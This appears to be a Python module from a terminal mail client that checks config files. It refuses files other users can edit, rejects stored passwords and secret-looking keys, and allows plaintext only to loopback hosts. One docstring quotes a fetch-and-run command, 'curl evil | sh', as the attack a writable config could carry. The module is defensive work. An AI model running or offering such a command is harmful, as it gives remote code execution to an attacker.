"""What mailtui must check before it trusts a config file or a plaintext host.

- A config file someone else can change is refused: its password_command runs as you.
- Secrets never live in the config file (they belong in the keyring or behind a
  command); in a file others can read, even a key that looks like a secret is refused.
- security = "none" sends the password and mail in clear, so only to this machine: a
  loopback literal, or the name "localhost" once every address it resolves to is
  loopback (checked when connecting, not when reading the config).
"""

from __future__ import annotations

import ipaddress
import os
import re
import socket
import stat
from collections.abc import Mapping
from typing import Final

from mailtui.config.reader import Source, dotted_key
from mailtui.errors import ConfigError

__all__ = [
    "exposed_mode",
    "is_loopback",
    "loopback_problem",
    "may_be_loopback",
    "refuse_secrets",
    "refuse_untrusted_file",
]

# Keys that would hold a secret in clear text: refused wherever they appear.
PASSWORD_KEYS: Final = frozenset({"password", "pass", "passwd"})
# Keys that look like they hold a secret: refused in a file others can read.
_SECRET_LOOKING = re.compile(r"pass|secret|token|api[_-]?key|credential|private[_-]?key", re.I)
_NOT_SECRETS: Final = frozenset(
    {"password_command", "oauth2_token_command", "oauth2_token_url", "oauth2_token_file"}
)


def refuse_untrusted_file(label: str, st: os.stat_result) -> None:
    """A config someone else can change is refused: its password_command runs as you.

    Checked on the opened file (fstat), so what is checked is what is read. Owned by
    another user, or writable by group or others, it could be edited into
    `password_command = "curl evil | sh"` (aerc and OpenSSH refuse such files too).
    """
    if os.name != "posix":
        return
    mode = stat.S_IMODE(st.st_mode)
    me = os.geteuid()
    if st.st_uid != me:
        raise ConfigError(
            f"{label}: is owned by another user (uid {st.st_uid}, you are {me}), who could "
            "change its commands (password_command) to run anything as you; refusing it",
            hint=f"if the file is yours, run `chown {me} {label} && chmod 600 {label}`; "
            "else copy it to a file of your own",
        )
    if mode & 0o022:
        who = (
            "group and others"
            if mode & 0o022 == 0o022
            else ("its group" if mode & 0o020 else "others")
        )
        raise ConfigError(
            f"{label}: is writable by {who} (mode {mode:03o}), who could change its "
            "commands (password_command) to run anything as you; refusing it",
            hint=f"run `chmod 600 {label}`",
        )


def exposed_mode(st: os.stat_result | None) -> int | None:
    """The file's permission bits if group/others may read it (POSIX only), else None."""
    if os.name != "posix" or st is None:
        return None
    mode = stat.S_IMODE(st.st_mode)
    return mode if mode & 0o044 else None


def _walk_keys(data: object) -> list[tuple[str, tuple[str, ...]]]:
    """(dotted key, key path) for every key in nested tables and arrays of tables.

    Iterative, because a hostile file can nest deeper than the recursion limit.
    """
    found: list[tuple[str, tuple[str, ...]]] = []
    stack: list[tuple[str, tuple[str, ...], object]] = [("", (), data)]
    while stack:
        where, keys, node = stack.pop()
        if isinstance(node, Mapping):
            for k, v in node.items():
                if isinstance(k, str):
                    dotted = dotted_key(where, k)
                    found.append((dotted, (*keys, k)))
                    stack.append((dotted, (*keys, k), v))
        elif isinstance(node, list | tuple):
            for i, v in enumerate(node):
                stack.append((f"{where}[{i}]", keys, v))
    found.sort()
    return found


def refuse_secrets(src: Source, data: object, exposed_mode: int | None) -> None:
    """Secrets never live in the config; a file others can read must not even look like it.

    `exposed_mode` is the file's mode when group or others can read it, else None.
    """
    keys = _walk_keys(data)
    for dotted, key_path in keys:
        if key_path[-1].lower() in PASSWORD_KEYS:
            in_account = len(key_path) > 2 and key_path[0] == "accounts"
            account = key_path[1] if in_account else "ACCOUNT"
            exposed = ""
            if exposed_mode is not None:
                exposed = (
                    f" The file is readable by other users (mode {exposed_mode:03o}): treat "
                    "that password as exposed and change it."
                )
            src.fail(
                dotted,
                "passwords are not allowed in the config file." + exposed,
                hint=(
                    f"delete this key and store the password in the system keyring with "
                    f"`mailtui login {account}`, or have a command print it, e.g. "
                    f'password_command = "pass show mail/{account}"'
                ),
            )
    if exposed_mode is None:
        return
    for dotted, key_path in keys:
        key = key_path[-1]
        if key not in _NOT_SECRETS and _SECRET_LOOKING.search(key):
            src.fail(
                dotted,
                f"looks like a secret, and the file is readable by other users "
                f"(mode {exposed_mode:03o})",
                hint=(
                    f"run `chmod 600 {src.label}`, and keep secrets in the keyring "
                    "(`mailtui login ACCOUNT`) or behind a password_command"
                ),
            )


# --- plaintext only to this machine -------------------------------------------------


def _loopback_ip(text: str) -> bool | None:
    """True/False for an IP literal (IPv4-mapped ::ffff:127.x counts), None for a name."""
    try:
        ip = ipaddress.ip_address(text.partition("%")[0])  # fe80::1%eth0: drop the zone
    except ValueError:
        return None
    if isinstance(ip, ipaddress.IPv6Address) and ip.ipv4_mapped is not None:
        return ip.ipv4_mapped.is_loopback
    return ip.is_loopback


def _bare_host(host: str) -> str:
    h = host.strip()
    return h[1:-1] if h.startswith("[") and h.endswith("]") else h


def may_be_loopback(host: str) -> bool:
    """Config-time check, without DNS: a loopback literal, or the name "localhost"
    (whose addresses `loopback_problem` checks when connecting)."""
    h = _bare_host(host)
    return bool(_loopback_ip(h)) or h.lower().rstrip(".") == "localhost"


def loopback_problem(host: str) -> str:
    """Why plaintext to `host` would leave this machine ("" when it would not).

    Called when connecting: a loopback literal is fine; the name "localhost" is only a
    promise (/etc/hosts or a resolver can point it anywhere), so it is resolved and
    every address must be loopback. Any other name is refused without a lookup.
    """
    h = _bare_host(host)
    literal = _loopback_ip(h)
    if literal is not None:
        return "" if literal else f"{h} is not a loopback address"
    if h.lower().rstrip(".") != "localhost":
        return f"{h} is a host name, not a loopback address (127.0.0.1, ::1)"
    try:
        infos = socket.getaddrinfo(h, None, type=socket.SOCK_STREAM)
    except (OSError, UnicodeError) as exc:
        return f"{h} cannot be resolved ({getattr(exc, 'strerror', None) or exc})"
    outside = sorted({str(info[4][0]) for info in infos if not _loopback_ip(str(info[4][0]))})
    if not infos or outside:
        return f"{h} resolves to {', '.join(outside) or 'nothing'}, not only to loopback"
    return ""


def is_loopback(host: str) -> bool:
    """True when plaintext to `host` stays on this machine; see `loopback_problem`."""
    return not loopback_problem(host)
